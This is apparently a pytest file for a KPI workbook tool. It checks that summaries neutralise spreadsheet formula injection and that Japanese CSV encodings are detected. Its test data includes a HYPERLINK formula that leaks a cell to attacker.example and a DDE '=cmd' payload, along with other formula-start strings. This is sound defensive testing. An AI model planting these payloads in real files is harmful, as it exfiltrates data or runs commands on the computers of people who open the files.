"""Summaries hold data only (no formula from a user's text), CSVs with a BOM; scenario CSVs in any Japanese encoding (issue 10)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from kpitree.recalculation import ScenarioError, recalc
from kpitree.recalculation.scenarios import typed_value
from kpitree.recalculation.summary import csv_cell, decode_text, read_table, write_summary
from kpitree.workbook_templates import template_path

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def hostile_book(path: Path) -> Path:
    """A workbook whose named cells hold text a spreadsheet would run, a negative number and a formula."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "S"
    for ref, text in (("A1", LEAK), ("A4", DDE), ("A5", "@SUM(1,2)"), ("A6", "+1+2"), ("A7", "-2+3"), ("A8", "\tTAB"),
                      ("A9", "-5")):
        ws[ref] = text
        ws[ref].data_type = "s"  # stored as text, as a user typing '=... gets
    ws["A2"] = -3.5
    ws["A3"] = "=A2*2"
    for name, ref in (("leak", "A1"), ("neg", "A2"), ("calc", "A3"), ("dde", "A4"), ("at", "A5"), ("plus", "A6"),
                      ("minus", "A7"), ("tab", "A8"), ("numtext", "A9")):
        wb.defined_names[name] = openpyxl.workbook.defined_name.DefinedName(name, attr_text=f"S!${ref[0]}${ref[1:]}")
    wb.save(path)
    return path


def test_xlsx_summary_writes_text_as_text_never_as_a_formula(tmp_path: Path) -> None:
    book = hostile_book(tmp_path / "book.xlsx")
    recalc([book], summary=tmp_path / "s.xlsx", report=False)
    with zipfile.ZipFile(tmp_path / "s.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<f " not in sheet, "no formula in the summary"
        assert not any(n.startswith("xl/worksheets/_rels") for n in z.namelist()), "no hyperlink relationships"
    wb = openpyxl.load_workbook(tmp_path / "s.xlsx")
    ws = wb.active
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2])}
    assert row["leak"].value == LEAK and row["leak"].data_type == "s"
    assert row["dde"].value == DDE and row["dde"].data_type == "s"
    assert row["neg"].value == -3.5 and row["calc"].value == -7


def test_csv_summary_neutralises_formula_starts_and_keeps_numbers(tmp_path: Path) -> None:
    book = hostile_book(tmp_path / "book.xlsx")
    recalc([book], summary=tmp_path / "s.csv", report=False)
    raw = (tmp_path / "s.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Japanese Excel"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    (row,) = rows
    assert row["leak"] == "'" + LEAK and row["dde"] == "'" + DDE
    assert row["at"] == "'@SUM(1,2)" and row["plus"] == "'+1+2" and row["minus"] == "'-2+3" and row["tab"] == "'\tTAB"
    assert row["neg"] == "-3.5" and row["calc"] == "-7.0", "genuine negative numbers stay numbers"
    assert row["numtext"] == "-5", "a text that is only a number is no formula"


def test_csv_without_bom_on_request(tmp_path: Path) -> None:
    frame = pd.DataFrame({"file": ["a"], "x": [1.5]})
    write_summary(frame, tmp_path / "s.csv", bom=False)
    assert (tmp_path / "s.csv").read_bytes().startswith(b"file,x")


@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-A1", "'-A1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-12.5", "-12.5"), ("+3", "+3"), ("-1e5", "-1e5"), ("a=b", "a=b"), ("", ""), ("チーム=A", "チーム=A"),
])
def test_csv_cell_rule(text: str, expected: str) -> None:
    assert csv_cell(text) == expected
    assert csv_cell(-3.0) == -3.0


# --- scenario tables as Japanese Excel saves them ----------------------------------------------------

TABLE = "plan_win_rate,plan_connect_rate,memo\n0.25,0.25,東京チーム\n0.30,0.28,大阪①\n"


@pytest.mark.parametrize("encoding,bom,expected", [
    ("utf-8", b"", "utf-8"), ("utf-8", b"\xef\xbb\xbf", "utf-8-sig"), ("utf-16", b"", "utf-16"),
    ("utf-16-le", b"", "utf-16"), ("cp932", b"", "cp932"),
])
def test_scenario_csv_encodings_are_detected(tmp_path: Path, encoding: str, bom: bytes, expected: str) -> None:
    path = tmp_path / "what_if.csv"
    path.write_bytes(bom + TABLE.encode(encoding))
    table = read_table(path)
    assert table.attrs["encoding"] == expected
    assert list(table.columns) == ["plan_win_rate", "plan_connect_rate", "memo"]
    # cells come in as written; the scenario runner reads each one as Excel reads a typed value
    assert list(table["plan_win_rate"]) == ["0.25", "0.30"] and list(table["memo"]) == ["東京チーム", "大阪①"]
    assert [typed_value(v) for v in table["plan_win_rate"]] == [0.25, 0.30]


def test_the_cli_says_which_encoding_was_used(cli, tmp_path: Path) -> None:
    sjis = tmp_path / "sjis.csv"
    sjis.write_bytes("plan_win_rate,plan_connect_rate\n0.25,0.25\n0.3,２５％\n".encode("cp932"))
    result = cli("recalc", str(template_path("ja")), "--scenarios", str(sjis), "--summary", str(tmp_path / "o.csv"))
    assert result.returncode == 0, result.stderr
    assert "read as cp932 (Shift_JIS" in result.stderr
    out = pd.read_csv(tmp_path / "o.csv", encoding="utf-8-sig")
    assert list(out["plan_win_rate"]) == [0.25, 0.3]
    utf8 = tmp_path / "utf8.csv"
    utf8.write_bytes(b"\xef\xbb\xbfplan_win_rate\n0.25\n")
    result = cli("recalc", str(template_path("ja")), "--scenarios", str(utf8), "--summary", str(tmp_path / "o2.csv"))
    assert result.returncode == 0 and "read as" not in result.stderr


def test_undecodable_bytes_are_one_clear_error() -> None:
    with pytest.raises(ScenarioError, match="cannot tell the text encoding"):
        decode_text(b"plan_win_rate\n\x81\x00\xff\xfe\x80\n" * 3 + b"\xff", "x.csv")


@pytest.mark.parametrize("header,needle", [
    ("plan_win_rate,plan_win_rate", "column 'plan_win_rate' appears twice (columns 1 and 2"),
    ("plan_win_rate, PLAN_WIN_RATE ", "'plan_win_rate' and ' PLAN_WIN_RATE '"),
])
def test_a_column_named_twice_is_named_as_written(tmp_path: Path, header: str, needle: str) -> None:
    path = tmp_path / "dup.csv"
    path.write_text(f"{header}\n0.2,0.3\n", encoding="utf-8")
    with pytest.raises(ScenarioError) as info:
        recalc(template_path("ja"), scenarios=path)
    assert needle in str(info.value) and ".1" not in str(info.value)


def test_a_duplicated_column_in_an_xlsx_table_too(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active.append(["plan_win_rate", "plan_win_rate"])
    wb.active.append([0.2, 0.3])
    wb.save(tmp_path / "dup.xlsx")
    with pytest.raises(ScenarioError, match="appears twice"):
        read_table(tmp_path / "dup.xlsx")


def test_the_csv_writer_writes_what_pandas_wrote(tmp_path: Path) -> None:
    """The command line's own CSV writer (no pandas) gives the bytes pandas' to_csv gave for the same table:
    numbers as repr, empty for NaN/None, text made safe and quoted only where needed."""
    import numpy as np
    from kpitree.recalculation.summary import Table, csv_safe

    frame = pd.DataFrame({
        "file": ["a.xlsx", "b,c.xlsx", 'q"uote.xlsx'],
        "num": [1.0, -7.0, 0.30000000000000004],
        "big": [1e20, 123456789012345678.0, float("nan")],
        "mixed": pd.Series([0.25, "=HYPERLINK(1)", None], dtype=object),
        "flag": pd.Series([True, False, "#DIV/0!"], dtype=object),
        "text": ["line\nbreak", "-5", "@x"],
        "=bad name": [1.5, 2.5, 3.5],
    })
    write_summary(frame, tmp_path / "ours.csv")
    csv_safe(frame).to_csv(tmp_path / "pandas.csv", index=False, encoding="utf-8-sig")
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()
    table = Table({"x": np.array([1.0, np.nan, -0.5]), "y": ["a", "+b", None]}, length=3)
    write_summary(table, tmp_path / "arrays.csv", bom=False)
    assert (tmp_path / "arrays.csv").read_text().splitlines() == ["x,y", "1.0,a", ",'+b", "-0.5,"]


# --- the pyarrow writer of large CSV summaries: the csv module's bytes -----------------------------

HOSTILE_TEXTS = [LEAK, DDE, "@SUM(1,2)", "+1+2", "-2+3", "\tTAB", "\rCR", "-5", "+5", "-", "=", "1,234", 'say "hi"',
                 "line\nbreak", "cr\ronly", "crlf\r\n", " lead", "trail ", "", "東京チーム", "大阪①", "ｱｲｳ", "＝全角",
                 "𠮷野家", "é", "#DIV/0!", "True", "nan", "1e5", "'quoted", ",", '"', "\x00nul", "\u2028sep"]


def _values() -> st.SearchStrategy[Any]:
    import numpy as np
    from kpitree.udfs.excel_values import XlError

    return st.one_of(st.sampled_from(HOSTILE_TEXTS), st.text(max_size=6), st.none(), st.booleans(),
                     st.integers(-10**18, 10**18), st.sampled_from([XlError.DIV0, XlError.NA, XlError.VALUE]),
                     st.floats(allow_nan=True, allow_infinity=True), st.sampled_from([0.0, -0.0, 1.0, 1, True, 0, False]),
                     st.floats(allow_nan=False).map(np.float64))  # numpy scalars in a list column


def _columns(rows: int) -> st.SearchStrategy[Any]:
    numbers = st.floats(allow_nan=True, allow_infinity=True, width=64)
    few = st.sampled_from([0.0, -0.0, 0.1 + 0.2, 1e16, 1e-5, 123456789012345.6, float("nan"), 2.5, -1.0])
    import numpy as np

    return st.one_of(
        st.lists(numbers, min_size=rows, max_size=rows).map(lambda v: np.array(v, dtype=float)),
        st.lists(few, min_size=rows, max_size=rows).map(lambda v: np.array(v, dtype=float)),  # few distinct values
        st.lists(_values(), min_size=rows, max_size=rows),
        st.lists(st.sampled_from(HOSTILE_TEXTS), min_size=rows, max_size=rows),
    )


@st.composite
def _tables(draw: Any) -> Any:
    from kpitree.recalculation.summary import Table

    rows = draw(st.integers(1, 40))
    names = draw(st.lists(st.one_of(st.sampled_from([*HOSTILE_TEXTS[:20], "file", "plan_win_rate", "達成率"]), st.text(max_size=5)),
                          min_size=2, max_size=6, unique=True))
    return Table({name: draw(_columns(rows)) for name in names}, length=rows)


def _both_writers(table: Any, folder: Path, bom: bool, monkeypatch: pytest.MonkeyPatch) -> tuple[bytes, bytes]:
    import kpitree.recalculation.summary as summary

    taken = []
    arrow = summary._write_csv_arrow
    monkeypatch.setattr(summary, "_write_csv_arrow", lambda *a: taken.append(arrow(*a)) or taken[-1])
    monkeypatch.setattr(summary, "FAST_CSV_CELLS", 10**12)
    write_summary(table, folder / "csv_module.csv", bom=bom)
    monkeypatch.setattr(summary, "FAST_CSV_CELLS", 0)
    write_summary(table, folder / "pyarrow.csv", bom=bom)
    assert taken == [True], "the pyarrow writer must have written the second file"
    return (folder / "csv_module.csv").read_bytes(), (folder / "pyarrow.csv").read_bytes()


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(table=_tables(), bom=st.booleans())
def test_the_pyarrow_csv_writer_writes_the_csv_modules_bytes(table: Any, bom: bool, tmp_path_factory: pytest.TempPathFactory,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """Hostile text (formula starts, quotes, commas, line breaks, NUL), Japanese, ±0.0, NaN, ±inf, booleans,
    integers and Excel errors: the fast writer's file is the csv module's, byte for byte, BOM or not."""
    pytest.importorskip("pyarrow")
    slow, fast = _both_writers(table, tmp_path_factory.mktemp("w"), bom, monkeypatch)
    assert fast == slow


def test_a_large_scenario_summary_takes_the_pyarrow_writer_and_stays_safe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """100,000 scenario rows as kpitree recalc writes them: the same bytes either way, written atomically over
    an existing file whose mode is kept, with the BOM, the formula starts neutralised and negatives numeric."""
    pytest.importorskip("pyarrow")
    import os

    import numpy as np
    from kpitree.recalculation.summary import Table

    n = 100_000
    rng = np.random.default_rng(3)
    table = Table({"memo": [LEAK, "-5", "東京", "a,b"] * (n // 4), "plan_win_rate": list(rng.choice([0.1, 0.25, 0.3], n)),
                   "required_calls_month": rng.uniform(-1e6, 1e6, n), "constant": np.full(n, 0.25),
                   "error": ["", "#DIV/0!"] * (n // 2)}, length=n)
    (tmp_path / "pyarrow.csv").write_text("old")
    os.chmod(tmp_path / "pyarrow.csv", 0o640)
    slow, fast = _both_writers(table, tmp_path, True, monkeypatch)
    assert fast == slow
    assert fast.startswith(b"\xef\xbb\xbfmemo,plan_win_rate,required_calls_month,constant,error\n\"'=HYPERLINK(\"\"http")
    assert (tmp_path / "pyarrow.csv").stat().st_mode & 0o777 == 0o640
    assert b'\n-5,0.' in fast and "\n東京,".encode() in fast and b'\n"a,b",' in fast and b"np.float64" not in fast
    assert not [p for p in os.listdir(tmp_path) if p not in ("pyarrow.csv", "csv_module.csv")]  # no temporary left


def test_the_pyarrow_csv_writer_does_not_import_pandas(tmp_path: Path) -> None:
    """pyarrow's pa.array()/pa.scalar() import pandas to look at what they get (0.17 s, more than the
    writing it saves on 10,000 rows): the writer builds its arrays from buffers."""
    pytest.importorskip("pyarrow")
    code = (
        "import sys, numpy as np\n"
        "from kpitree.recalculation import summary\n"
        "n = 20_000\n"
        "t = summary.Table({'file': [f'f{i}, \"q\"' for i in range(n)], 'x': np.arange(n) / 7, 'y': ['売上'] * n})\n"
        f"assert summary._write_csv_arrow(t, {str(tmp_path / 'a.csv')!r}, True)\n"
        "assert 'pyarrow' in sys.modules and 'pandas' not in sys.modules, sorted(m for m in sys.modules if 'pandas' in m)\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_numpy_zeros_of_both_signs_keep_their_text_in_the_pyarrow_writer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """np.float64(-0.0) == np.float64(0.0): the writer's table of distinct fields must keep them apart, as
    the csv module writes each one's own text (found by the generated test above)."""
    pytest.importorskip("pyarrow")
    import numpy as np
    from kpitree.recalculation.summary import Table

    table = Table({"a": [np.float64(0.0), np.float64(-0.0), np.float64(-0.0)], "b": ["x", "y", "z"]}, length=3)
    slow, fast = _both_writers(table, tmp_path, False, monkeypatch)
    assert fast == slow and b"-0.0,y" in fast and b"\n0.0,x" in fast
